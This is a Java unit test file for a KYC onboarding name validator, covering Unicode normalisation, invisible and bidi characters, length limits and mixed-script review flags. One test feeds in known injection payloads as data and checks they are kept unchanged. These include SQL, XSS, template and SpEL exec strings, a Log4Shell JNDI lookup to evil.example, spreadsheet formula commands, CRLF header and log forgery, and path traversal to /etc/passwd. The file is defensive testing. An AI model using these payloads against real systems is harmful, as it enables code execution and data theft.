package org.trademap.server.onboarding;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class TextRulesTest {

  private static Validation<String> name(String raw) {
    return TextRules.name("surname", raw, TextRules.MAX_NAME_LENGTH);
  }

  private static List<String> codes(Validation<?> outcome) {
    return outcome.errors().stream().map(FieldError::key).toList();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Zoë",
        "Müller",
        "Ørsted",
        "Łukasz",
        "Nguyễn",
        "山田",
        "山田　太郎",
        "やまだ たろう",
        "Иванов",
        "Παπαδόπουλος",
        "김민준",
        "محمد",
        "O'Brien-Smith",
        "ERIKSSON",
        "Anna Maria"
      })
  void keepsRealNamesInEveryScriptUnchangedAndUnflagged(String name) {
    Validation<String> outcome = name(name);

    assertThat(outcome).isInstanceOf(Validation.Valid.class);
    assertThat(KycSpecimens.valid(outcome)).isEqualTo(name);
    assertThat(outcome.reviewFlags()).isEmpty();
  }

  @Test
  void normalisesDecomposedInputToNfc() {
    String decomposed = "Zoe\u0308 Mu\u0308ller";

    String value = KycSpecimens.valid(name(decomposed));

    assertThat(value).isEqualTo("Zo\u00eb M\u00fcller");
    assertThat(TextRules.isNfc(value)).isTrue();
  }

  @Test
  void removesSpacesAtTheEndsButKeepsThoseInside() {
    assertThat(KycSpecimens.valid(name("\u00a0 Anna  Maria\u3000"))).isEqualTo("Anna  Maria");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Anna\u0000",
        "Anna\tMaria",
        "Anna\rMaria",
        "Anna\nMaria",
        "Anna\u001b[31m",
        "Anna\u007f",
        "Anna\u0085",
        "Anna\u009b",
        "Anna\u2028Maria",
        "Anna\u2029Maria"
      })
  void refusesControlCharactersAndLineBreaks(String raw) {
    assertThat(codes(name(raw))).containsExactly("name.control-character");
  }

  @Test
  void refusesLogInjectionWithCarriageReturnAndLineFeed() {
    String forged = "Eriksson\r\n2026-03-01 INFO login succeeded for admin";

    assertThat(codes(name(forged))).containsExactly("name.control-character");
  }

  @Test
  void refusesALineFeedAtTheEndInsteadOfStrippingIt() {
    assertThat(codes(name("Eriksson\n"))).containsExactly("name.control-character");
  }

  @ParameterizedTest
  @ValueSource(strings = {"Ann\u200Ba", "Ann\u200Ca", "Ann\u200Da", "Ann\u2060a", "\uFEFFAnna"})
  void refusesZeroWidthCharacters(String raw) {
    assertThat(codes(name(raw))).containsExactly("name.zero-width");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Anna\u202A",
        "Anna\u202B",
        "Anna\u202C",
        "Anna\u202Dx",
        "Anna\u202Egnp.exe",
        "Anna\u2066x",
        "Anna\u2067x",
        "Anna\u2068x",
        "Anna\u2069",
        "Anna\u200E",
        "Anna\u200F",
        "Anna\u061C"
      })
  void refusesBidirectionalControls(String raw) {
    assertThat(codes(name(raw))).containsExactly("name.bidi-control");
  }

  @ParameterizedTest
  @ValueSource(strings = {"An\u00ADna", "Anna\uDB40\uDC41", "Anna\u2062"})
  void refusesOtherInvisibleFormatCharacters(String raw) {
    assertThat(codes(name(raw))).containsExactly("name.format-character");
  }

  @ParameterizedTest
  @ValueSource(strings = {"Anna\u0378", "Anna\uE000", "Anna\uD800", "Anna\uDC00x", "Anna\uFFFF"})
  void refusesUnassignedPrivateUseAndLoneSurrogateCodePoints(String raw) {
    assertThat(codes(name(raw))).containsExactly("name.unsupported-character");
  }

  @Test
  void refusesStackedCombiningMarksButKeepsVietnameseAndPointedHebrew() {
    String zalgo = "Z\u0351\u0352\u0353\u0354\u0355algo";

    assertThat(codes(name(zalgo))).containsExactly("name.too-many-marks");
    assertThat(name("Nguye\u0302\u0303n").isValid()).isTrue();
    assertThat(name("\u05E9\u05C1\u05BC\u05B8\u05DC\u05D5\u05B9\u05DD").isValid()).isTrue();
  }

  @Test
  void acceptsANameOfExactlyTheLimit() {
    String longest = "a".repeat(TextRules.MAX_NAME_LENGTH);

    assertThat(KycSpecimens.valid(name(longest))).hasSize(TextRules.MAX_NAME_LENGTH);
  }

  @Test
  void refusesALongerNameWithTheLimitAndTheLengthInsteadOfTruncatingIt() {
    Validation<String> outcome = name("a".repeat(TextRules.MAX_NAME_LENGTH + 1));

    assertThat(outcome.errors())
        .containsExactly(
            new FieldError("surname", FieldError.Code.NAME_TOO_LONG, List.of("200", "201")));
  }

  @Test
  void countsLengthInCodePointsAfterNfc() {
    // 200 letters outside the BMP are 400 UTF-16 units but 200 code points: accepted.
    String supplementary = "\uD840\uDC0B".repeat(TextRules.MAX_NAME_LENGTH);
    // 200 decomposed letters are 400 code points in NFD but 200 in NFC: accepted.
    String decomposed = "e\u0301".repeat(TextRules.MAX_NAME_LENGTH);

    assertThat(name(supplementary).isValid()).isTrue();
    assertThat(KycSpecimens.valid(name(decomposed)).codePoints().count()).isEqualTo(200);
  }

  @ParameterizedTest
  @ValueSource(strings = {"", " ", "\u3000\u00a0"})
  void refusesEmptyNames(String raw) {
    assertThat(codes(name(raw))).containsExactly("name.empty");
  }

  @Test
  void reportsAMissingNameAsRequired() {
    assertThat(codes(TextRules.name("surname", null, 10))).containsExactly("field.required");
  }

  @ParameterizedTest
  @ValueSource(strings = {"123", "-", "{{7*7}}", "<%= 7*7 %>"})
  void refusesNamesWithoutALetter(String raw) {
    assertThat(codes(name(raw))).containsExactly("name.no-letter");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Robert'); DROP TABLE students;--",
        "O'Brien\" OR \"1\"=\"1",
        "<script>alert('Eriksson')</script>",
        "<img src=x onerror=alert(1)>",
        "{{constructor.constructor('alert(1)')()}}",
        "${jndi:ldap://evil.example/a}",
        "#{T(java.lang.Runtime).getRuntime().exec('calc')}",
        "[[${T(java.lang.Runtime)}]]",
        "=cmd|' /C calc'!A0",
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "@SUM(A1:A2)",
        "-2+3+cmd|' /C calc'!A0",
        "%0d%0aSet-Cookie: x=y",
        "../../etc/passwd"
      })
  void acceptsInjectionStringsAsPlainTextUnchanged(String raw) {
    Validation<String> outcome = name(raw);

    assertThat(KycSpecimens.valid(outcome)).isEqualTo(raw);
  }

  @Test
  void flagsACyrillicLetterInAnOtherwiseLatinNameForReview() {
    Validation<String> outcome = name("Eriks\u0455on"); // U+0455 CYRILLIC SMALL LETTER DZE

    assertThat(outcome).isInstanceOf(Validation.Valid.class);
    assertThat(((Validation.Valid<String>) outcome).flaggedForReview()).isTrue();
    assertThat(outcome.reviewFlags())
        .containsExactly(
            new ReviewFlag("surname", ReviewFlag.REASON_MIXED_SCRIPT, "Cyrillic, Latin"));
  }

  @Test
  void flagsACyrillicAInALatinGivenName() {
    Validation<String> outcome =
        TextRules.name("givenNames", "\u0410nna", TextRules.MAX_NAME_LENGTH);

    assertThat(outcome.reviewFlags())
        .extracting(ReviewFlag::field, ReviewFlag::reason)
        .containsExactly(tuple("givenNames", ReviewFlag.REASON_MIXED_SCRIPT));
  }

  @Test
  void flagsAGreekOmicronInALatinName() {
    assertThat(name("J\u03BFhn").reviewFlags())
        .extracting(ReviewFlag::reason)
        .containsExactly(ReviewFlag.REASON_MIXED_SCRIPT);
  }

  @Test
  void doesNotFlagLatinWithHanAndKana() {
    assertThat(name("Müller 山田 やまだ").reviewFlags()).isEmpty();
  }

  @Test
  void flagsDigitsFromTwoNumberSystems() {
    assertThat(name("Anna \u0661\u0662 3").reviewFlags())
        .extracting(ReviewFlag::reason)
        .contains(ReviewFlag.REASON_MIXED_NUMBERS);
  }

  @Test
  void flagsTheSameCombiningMarkTwiceInARow() {
    assertThat(name("Anna\u0301\u0301").reviewFlags())
        .extracting(ReviewFlag::reason)
        .containsExactly(ReviewFlag.REASON_REPEATED_MARK);
  }

  @Test
  void reportsEveryBrokenRuleOnceInAStableOrder() {
    Validation<String> outcome = name("\u202E\u200BAnna\n\u200B\u202E\r" + "x".repeat(200));

    assertThat(codes(outcome))
        .containsExactly(
            "name.too-long", "name.control-character", "name.zero-width", "name.bidi-control");
  }

  @Test
  void usesTextCodesForFreeTextAndAcceptsTextWithoutLetters() {
    assertThat(codes(TextRules.text("domicile.street", "Street\n1", 200)))
        .containsExactly("text.control-character");
    assertThat(codes(TextRules.text("domicile.street", "\u200B", 200)))
        .containsExactly("text.zero-width");
    assertThat(KycSpecimens.valid(TextRules.text("domicile.street", "12", 200))).isEqualTo("12");
  }

  @Test
  void doesNotFlagMixedScriptsInFreeText() {
    assertThat(TextRules.text("occupation", "Programmer (Программист)", 200).reviewFlags())
        .isEmpty();
  }
}
